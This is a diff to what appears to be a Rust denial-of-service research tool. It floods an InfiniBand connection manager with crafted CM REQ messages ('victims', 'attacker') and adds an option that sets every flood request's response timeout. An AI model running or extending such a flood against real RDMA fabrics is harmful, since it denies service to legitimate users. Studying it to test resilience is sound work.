@@ -13,7 +13,8 @@
 //! peer's would (the kernel CM answers to the GID in the REQ, ibcm to the datagram's source).
 //!
 //! 1. **Flood** at `--rate` REQs per second (0: as fast as one thread sends), comm ID and QPN
-//!    fresh each, half with CM response timeout 0 and half with 31, 15 retries; after
+//!    fresh each, half with CM response timeout 0 and half with 31 (or all with
+//!    `--req-timeout`), 15 retries; after
 //!    `--warmup` the client connects `--legit` times, all in flight (≈300 ms per try, 15
 //!    retries, `--connect-timeout`); the flood stops when every attempt has ended. The
 //!    established connections are held.
@@ -85,6 +86,8 @@ pub(crate) struct RemoteOpts {
     pub(crate) hold_until: Option<PathBuf>,
     /// At most this long.
     pub(crate) hold_secs: f64,
+    /// Every flood REQ's CM response timeouts (`None`: half 0, half 31).
+    pub(crate) req_timeout: Option<u8>,
 }
 
 /// The CA GUID of the victims' client (the attacker knows it).
@@ -200,7 +203,9 @@ fn flood_reqs(
         if let CmMessage::Req(r) = &mut tpl.msg {
             r.local_comm_id = CommId((n as u32).wrapping_mul(0x9e37_79b9) | 1);
             r.local_qpn = Qpn::masked(2 + (n % 0xff_fff0) as u32);
-            let t = if n.is_multiple_of(2) { 0 } else { 31 };
+            let t = o
+                .req_timeout
+                .unwrap_or(if n.is_multiple_of(2) { 0 } else { 31 });
             r.remote_cm_response_timeout = TimeoutExp::masked(t);
             r.local_cm_response_timeout = TimeoutExp::masked(t);
             r.max_cm_retries = U4::masked(15);
